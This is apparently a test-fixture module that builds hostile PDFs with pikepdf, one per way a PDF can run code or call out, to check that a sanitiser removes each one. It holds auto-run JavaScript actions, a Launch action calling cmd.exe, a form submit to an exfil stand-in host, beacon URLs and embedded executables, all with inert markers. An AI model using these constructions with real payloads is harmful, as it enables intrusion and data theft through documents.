"""A corpus of hostile PDFs, made with pikepdf: one per way a PDF can run code or call out, and
one with all of them. Each carries markers (``MARK-…``) in what it would run or reach, so a test
can look for any trace of it in the cleaned copy."""

from __future__ import annotations

import io
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, String

VISIBLE = "Visible text stays"


@dataclass(frozen=True)
class Hostile:
    name: str
    build: Callable[[pikepdf.Pdf], None]
    removed: frozenset[str]  # what the page must say was removed
    markers: tuple[str, ...]


def _js(pdf: pikepdf.Pdf, marker: str, *, indirect: bool = False) -> Dictionary:
    action = Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(f"app.alert('{marker}')"))
    return pdf.make_indirect(action) if indirect else action


def _base() -> pikepdf.Pdf:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(300, 300))
    page = pdf.pages[0]
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
    page.obj.Contents = pdf.make_stream(f"BT /F1 12 Tf 20 150 Td ({VISIBLE}) Tj ET".encode())
    return pdf


def _annot(pdf: pikepdf.Pdf, subtype: str, **keys: object) -> Dictionary:
    annot = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=Array([10, 10, 100, 40]), **keys)
    )
    page = pdf.pages[0].obj
    if "/Annots" not in page:
        page.Annots = Array()
    page.Annots.append(annot)
    return annot


def _field(pdf: pikepdf.Pdf, widget: Dictionary) -> None:
    if "/AcroForm" not in pdf.Root:
        pdf.Root.AcroForm = Dictionary(Fields=Array())
    pdf.Root.AcroForm.Fields.append(widget)


def _appearance(pdf: pikepdf.Pdf, text: str) -> Dictionary:
    stream = pdf.make_stream(f"BT /F1 10 Tf 2 10 Td ({text}) Tj ET".encode())
    stream.Type = Name.XObject
    stream.Subtype = Name.Form
    stream.BBox = Array([0, 0, 90, 30])
    stream.Resources = pdf.pages[0].obj.Resources
    return Dictionary(N=stream)


# --- One vector each ---------------------------------------------------------------------------


def open_action(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = _js(pdf, "MARK-open-action")


def catalog_actions(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AA = Dictionary(
        WC=_js(pdf, "MARK-will-close"),
        WS=_js(pdf, "MARK-will-save"),
        DS=_js(pdf, "MARK-did-save"),
        WP=_js(pdf, "MARK-will-print"),
        DP=_js(pdf, "MARK-did-print"),
    )


def page_actions(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=_js(pdf, "MARK-page-open"), C=_js(pdf, "MARK-page-close"))


def widget_actions(pdf: pikepdf.Pdf) -> None:
    """A filled-in text field whose widget runs JavaScript when its page opens, on calculate,
    format, keystroke and validate."""
    widget = _annot(
        pdf,
        "/Widget",
        FT=Name.Tx,
        T=String("amount"),
        V=String("Filled-in value"),
        AP=_appearance(pdf, "Filled-in value"),
        AA=Dictionary(
            PO=_js(pdf, "MARK-widget-page-open"),
            C=_js(pdf, "MARK-widget-calculate", indirect=True),
            F=_js(pdf, "MARK-widget-format"),
            K=_js(pdf, "MARK-widget-keystroke"),
            V=_js(pdf, "MARK-widget-validate"),
        ),
    )
    _field(pdf, widget)
    pdf.Root.AcroForm.CO = Array([widget])


def link_javascript(pdf: pikepdf.Pdf) -> None:
    _annot(pdf, "/Link", A=_js(pdf, "MARK-link-js", indirect=True))


def link_uri(pdf: pikepdf.Pdf) -> None:
    _annot(pdf, "/Link", A=Dictionary(S=Name.URI, URI=String("https://beacon.example/MARK-uri")))


def launch(pdf: pikepdf.Pdf) -> None:
    _annot(
        pdf,
        "/Link",
        A=Dictionary(
            S=Name.Launch,
            F=String("MARK-launch.exe"),
            Win=Dictionary(F=String("cmd.exe"), P=String("/c MARK-launch-win")),
        ),
    )


def submit_form(pdf: pikepdf.Pdf) -> None:
    button = _annot(
        pdf,
        "/Widget",
        FT=Name.Btn,
        T=String("send"),
        A=Dictionary(
            S=Name.SubmitForm,
            F=Dictionary(FS=Name.URL, F=String("https://exfil.example/MARK-submit")),
        ),
    )
    _field(pdf, button)


def import_data(pdf: pikepdf.Pdf) -> None:
    _annot(pdf, "/Link", A=Dictionary(S=Name.ImportData, F=String("MARK-import.fdf")))


def remote_goto(pdf: pikepdf.Pdf) -> None:
    _annot(
        pdf,
        "/Link",
        A=Dictionary(
            S=Name.GoToR,
            F=Dictionary(FS=Name.URL, F=String("https://remote.example/MARK-gotor.pdf")),
            D=Array([0, Name.Fit]),
        ),
    )
    _annot(
        pdf,
        "/Link",
        A=Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("MARK-gotoe"))),
    )


def media(pdf: pikepdf.Pdf) -> None:
    _annot(
        pdf,
        "/Screen",
        A=Dictionary(S=Name.Rendition, OP=0, JS=String("app.alert('MARK-rendition')")),
    )
    _annot(pdf, "/Link", A=Dictionary(S=Name.Sound, Sound=pdf.make_stream(b"MARK-sound")))
    _annot(pdf, "/Link", A=Dictionary(S=Name.Movie, T=String("MARK-movie")))
    _annot(
        pdf,
        "/RichMedia",
        RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([String("MARK-richmedia")]))),
    )
    _annot(pdf, "/3D", **{"/3DD": pdf.make_stream(b"MARK-3d")})


def hide(pdf: pikepdf.Pdf) -> None:
    _annot(pdf, "/Link", A=Dictionary(S=Name.Hide, T=String("MARK-hide"), H=True))


def names_javascript(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(
            Names=Array([String("init"), _js(pdf, "MARK-names-js", indirect=True)])
        )
    )


def xfa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(
        Fields=Array(),
        XFA=pdf.make_stream(b"<xdp:xdp><script>MARK-xfa</script></xdp:xdp>"),
    )
    pdf.Root.NeedsRendering = True


def embedded_files(pdf: pikepdf.Pdf) -> None:
    def filespec(marker: str) -> Dictionary:
        return pdf.make_indirect(
            Dictionary(
                Type=Name.Filespec,
                F=String(f"{marker}.exe"),
                EF=Dictionary(F=pdf.make_stream(f"MZ {marker}".encode())),
            )
        )

    pdf.Root.Names = Dictionary(
        EmbeddedFiles=Dictionary(Names=Array([String("MARK-embedded"), filespec("MARK-embedded")]))
    )
    _annot(pdf, "/FileAttachment", FS=filespec("MARK-file-annotation"))
    pdf.Root.AF = Array([filespec("MARK-associated")])


def bookmark_javascript(pdf: pikepdf.Pdf) -> None:
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(
        Dictionary(Title=String("Chapter"), Parent=outlines, A=_js(pdf, "MARK-outline"))
    )
    outlines.First = item
    outlines.Last = item
    pdf.Root.Outlines = outlines


def chained_actions(pdf: pikepdf.Pdf) -> None:
    """A harmless jump whose next action runs JavaScript."""
    _annot(
        pdf,
        "/Link",
        A=Dictionary(
            S=Name.GoTo,
            D=Array([pdf.pages[0].obj, Name.Fit]),
            Next=Array([_js(pdf, "MARK-next")]),
        ),
    )


def external_stream(pdf: pikepdf.Pdf) -> None:
    """An image whose data is fetched from a web address when the page is shown (a beacon)."""
    image = pdf.make_stream(b"")
    image.Type = Name.XObject
    image.Subtype = Name.Image
    image.Width = 1
    image.Height = 1
    image.ColorSpace = Name.DeviceGray
    image.BitsPerComponent = 8
    image.F = Dictionary(FS=Name.URL, F=String("https://beacon.example/MARK-external.png"))
    page = pdf.pages[0].obj
    page.Resources.XObject = Dictionary(Im1=image)
    page.Contents = pdf.make_stream(
        f"BT /F1 12 Tf 20 150 Td ({VISIBLE}) Tj ET q 1 0 0 1 0 0 cm /Im1 Do Q".encode()
    )


def hidden_action(pdf: pikepdf.Pdf) -> None:
    """A JavaScript action tucked into the page's resources, where no viewer looks for one:
    whatever path reaches it, it must not survive."""
    pdf.pages[0].obj.Resources.Properties = Dictionary(MC0=_js(pdf, "MARK-hidden"))


def base_uri(pdf: pikepdf.Pdf) -> None:
    pdf.Root.URI = Dictionary(Base=String("https://beacon.example/MARK-base/"))


def notes_and_metadata(pdf: pikepdf.Pdf) -> None:
    _annot(pdf, "/Text", Contents=String("MARK-note by Kim"), T=String("MARK-author"))
    pdf.pages[0].obj.Thumb = pdf.make_stream(b"MARK-thumbnail")
    pdf.docinfo["/Author"] = "MARK-docinfo-author"
    with pdf.open_metadata(set_pikepdf_as_editor=False) as meta:
        meta["dc:creator"] = ["MARK-xmp-creator"]


VECTORS = [
    Hostile("open_action", open_action, frozenset({"javascript", "open_action"}), ("MARK-open",)),
    Hostile(
        "catalog_actions", catalog_actions, frozenset({"javascript", "actions"}), ("MARK-will",)
    ),
    Hostile("page_actions", page_actions, frozenset({"javascript", "actions"}), ("MARK-page",)),
    Hostile(
        "widget_actions",
        widget_actions,
        frozenset({"javascript", "actions", "form_fields"}),
        ("MARK-widget",),
    ),
    Hostile("link_javascript", link_javascript, frozenset({"javascript", "links"}), ("MARK-link",)),
    Hostile("link_uri", link_uri, frozenset({"uri", "links"}), ("MARK-uri", "beacon.example")),
    Hostile("launch", launch, frozenset({"launch"}), ("MARK-launch", "cmd.exe")),
    Hostile("submit_form", submit_form, frozenset({"submit_form"}), ("MARK-submit", "exfil")),
    Hostile("import_data", import_data, frozenset({"import_data"}), ("MARK-import",)),
    Hostile("remote_goto", remote_goto, frozenset({"remote_goto"}), ("MARK-goto",)),
    Hostile(
        "media",
        media,
        frozenset({"media"}),
        ("MARK-rendition", "MARK-sound", "MARK-movie", "MARK-richmedia", "MARK-3d"),
    ),
    Hostile("hide", hide, frozenset({"hide"}), ("MARK-hide",)),
    Hostile("names_javascript", names_javascript, frozenset({"javascript"}), ("MARK-names",)),
    Hostile("xfa", xfa, frozenset({"xfa"}), ("MARK-xfa",)),
    Hostile("embedded_files", embedded_files, frozenset({"files"}), ("MARK-embedded", "MZ ")),
    Hostile(
        "bookmark_javascript",
        bookmark_javascript,
        frozenset({"javascript", "bookmarks"}),
        ("MARK-outline",),
    ),
    Hostile("chained_actions", chained_actions, frozenset({"javascript"}), ("MARK-next",)),
    Hostile(
        "external_stream",
        external_stream,
        frozenset({"external"}),
        ("MARK-external", "beacon.example"),
    ),
    Hostile("hidden_action", hidden_action, frozenset({"javascript"}), ("MARK-hidden",)),
    Hostile("base_uri", base_uri, frozenset({"uri"}), ("MARK-base",)),
    Hostile(
        "notes_and_metadata",
        notes_and_metadata,
        frozenset({"annotations", "thumbnails", "docinfo", "xmp"}),
        ("MARK-note", "MARK-author", "MARK-thumbnail", "MARK-docinfo", "MARK-xmp"),
    ),
]


def build(*vectors: Hostile) -> bytes:
    pdf = _base()
    for vector in vectors:
        vector.build(pdf)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def everything() -> bytes:
    """One document with every vector at once (the catalogue's /Names and /AcroForm merged)."""
    pdf = _base()
    for vector in VECTORS:
        names = pdf.Root.get("/Names")
        form = pdf.Root.get("/AcroForm")
        vector.build(pdf)
        if names is not None and pdf.Root.Names is not names:
            for key, value in names.items():
                pdf.Root.Names[key] = value
        if form is not None and pdf.Root.AcroForm is not form:
            for key, value in form.items():
                if key == "/Fields":
                    for field in value:
                        pdf.Root.AcroForm.Fields.append(field)
                elif key not in pdf.Root.AcroForm:
                    pdf.Root.AcroForm[key] = value
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()
